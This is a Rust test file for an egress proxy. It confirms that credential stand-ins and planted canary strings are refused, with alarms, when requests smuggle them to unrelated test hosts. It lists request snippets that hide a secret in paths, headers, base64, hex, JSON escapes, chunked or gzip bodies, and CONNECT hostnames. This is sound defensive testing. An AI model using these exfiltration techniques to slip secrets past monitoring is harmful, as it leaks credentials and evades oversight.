//! What stands in for a credential, and what a person planted, in places where it has no business.

use crate::internet::Internet;
use crate::lodging::{BOTH, credential};

/// Requests that carry `k` to where it has no business, however it is written.
const ACTS: &[(&str, &str)] = &[
    ("in the path", "get('/v1/' + k)"),
    ("in a query", "get('/v1?note=' + k)"),
    (
        "percent signs for some letters",
        "get('/v1?note=' + ''.join('%%%02x' % ord(c) if i % 2 else c for i, c in enumerate(k)))",
    ),
    ("in a header", "get('/v1', more=f'X-Note: a {k} b\\r\\n')"),
    ("in a body", "get('/v1', method='POST', body=b'text ' + k.encode() + b' text')"),
    ("in base64", "get('/v1', method='POST', body=base64.b64encode(b'ab' + k.encode()))"),
    (
        "in base64 in lines",
        "get('/v1', method='POST', body=base64.encodebytes(b'x' * 50 + k.encode()))",
    ),
    ("in hex", "get('/v1', method='POST', body=k.encode().hex().upper().encode())"),
    (
        "escaped in JSON",
        "get('/v1', method='POST', body=('{\"a\": \"' + ''.join('\\\\u%04x' % ord(c) for c in k) + '\"}').encode())",
    ),
    (
        "in chunks of a byte",
        "get('/v1', method='POST', more='Transfer-Encoding: chunked\\r\\n', body=b''.join(b'1\\r\\n' + bytes([b]) + b'\\r\\n' for b in k.encode()) + b'0\\r\\n\\r\\n')",
    ),
    (
        "compressed",
        "get('/v1', method='POST', more='Content-Encoding: gzip\\r\\n', body=gzip.compress(b'text ' + k.encode()))",
    ),
];

fn act(own: &str) -> String {
    let acts: Vec<String> = ACTS.iter().map(|(_, act)| format!("lambda: ask({act})")).collect();
    format!("import base64\nk = {own}\ntable([{}])\n", acts.join(",\n"))
}

#[track_caller]
fn refused(net: &Internet, rules: &str, own: &str, code: &str) {
    let act = act(own);
    let outside = format!("import os; os.environ['API_KEY'] = 'sk-harmless-0123456789'\n{act}");
    net.forget();
    net.speaks_outside(&outside).works("without a wall");
    assert_eq!(net.asked().len(), ACTS.len(), "all of it goes out without a wall");
    for way in BOTH {
        net.forget();
        let before = net.events("connection").len();
        let ran = net.bears(rules, way, &act).works("asks");
        let got: Vec<String> =
            ran.out.lines().zip(ACTS).map(|(line, (why, _))| format!("{line}  {why}")).collect();
        let want: Vec<String> = ACTS.iter().map(|(why, _)| format!("403 {code}  {why}")).collect();
        assert_eq!(got, want, "{}", way.0);
        // A head may have gone before its body was refused; nothing of that has.
        for one in net.asked() {
            let all = format!("{}{}{}", one.target, one.head, String::from_utf8_lossy(&one.framed));
            assert!(one.body.is_empty() && one.framed.is_empty(), "{}: {one:?}", way.0);
            assert!(one.target == "/v1" && !all.contains("Note"), "{}: {all}", way.0);
        }
        let events = net.events("connection").split_off(before);
        let alarms = events.iter().filter(|event| event["code"] == code).count();
        assert_eq!(alarms, ACTS.len(), "one alarm each, with whom it was for: {events:?}");
    }
}

#[test]
fn a_stand_in_in_the_wrong_place_is_refused_with_an_alarm() {
    let Some(net) = Internet::take() else { return };
    // To a host that has nothing to do with it.
    let rules = format!(
        "[[network.allow]]\nhost = 'new.test'\ninspect = 'always'\n[[network.allow]]\nhost = 'one.test'\ncredential = 'api'\n{}",
        credential("header = 'x-api-key'")
    );
    refused(&net, &rules, "os.environ['API_KEY']", "stand-in-astray");
}

#[test]
fn what_was_planted_is_refused_with_an_alarm() {
    let Some(net) = Internet::take() else { return };
    let rules = "[[network.allow]]\nhost = 'new.test'\ninspect = 'always'\n[canary]\nplan = 'the-blue-heron-flies-at-dawn-77'\n";
    refused(&net, rules, "'the-blue-heron-flies-at-dawn-77'", "canary");
}

/// Other things like it pass: it is the very thing that is looked for.
#[test]
fn what_is_only_like_it_passes() {
    let Some(net) = Internet::take() else { return };
    let rules = format!(
        "[[network.allow]]\nhost = 'new.test'\ninspect = 'always'\n[[network.allow]]\nhost = 'one.test'\ncredential = 'api'\n{}[canary]\nplan = 'the-blue-heron-flies-at-dawn-77'\n",
        credential("header = 'x-api-key'")
    );
    for own in ["'sk-ant-api03-' + 'A' * 80", "'the-blue-heron-flies-at-noon-77'"] {
        let act = act(own);
        for way in BOTH {
            net.forget();
            let ran = net.bears(&rules, way, &act).works("asks");
            let passed = ran.out.lines().filter(|line| *line == "200 -").count();
            assert_eq!(passed, ACTS.len(), "{own}, {}: {ran:?}", way.0);
        }
    }
}

/// A name below a wildcard is read by who serves names there: what was planted does not go out in one, however
/// it is spelt and parted.
#[test]
fn what_was_planted_is_in_no_name() {
    let Some(net) = Internet::take() else { return };
    let rules = "[[network.allow]]\nhost = '*.new.test'\ninspect = 'never'\n[canary]\nplan = 'The-Blue-Heron-77'\n";
    let act = "
def tunnel(name):
    s = socket.create_connection(urllib.parse.urlsplit(os.environ['https_proxy']).netloc.rsplit(':', 1), 10)
    s.sendall(f'CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n'.encode())
    head = s.recv(4096).decode()
    print(head.split(' ')[1], 'canary' if 'X-Cofferdam: canary' in head else '-')
import urllib.parse
for name in ('a.new.test', 'the-blue-heron-77.new.test', 'THE-blue-heron-77.x.new.test', 'the-bl.ue-heron-77.new.test'): tunnel(name)
";
    net.forget();
    let ran = net.bears(rules, ("proxy", ""), act).works("names");
    assert_eq!(ran.out, "200 -\n403 canary\n403 canary\n403 canary\n", "{ran:?}");
    let alarms = net.events("connection").into_iter().filter(|event| event["code"] == "canary");
    assert_eq!(alarms.count(), 3);
}
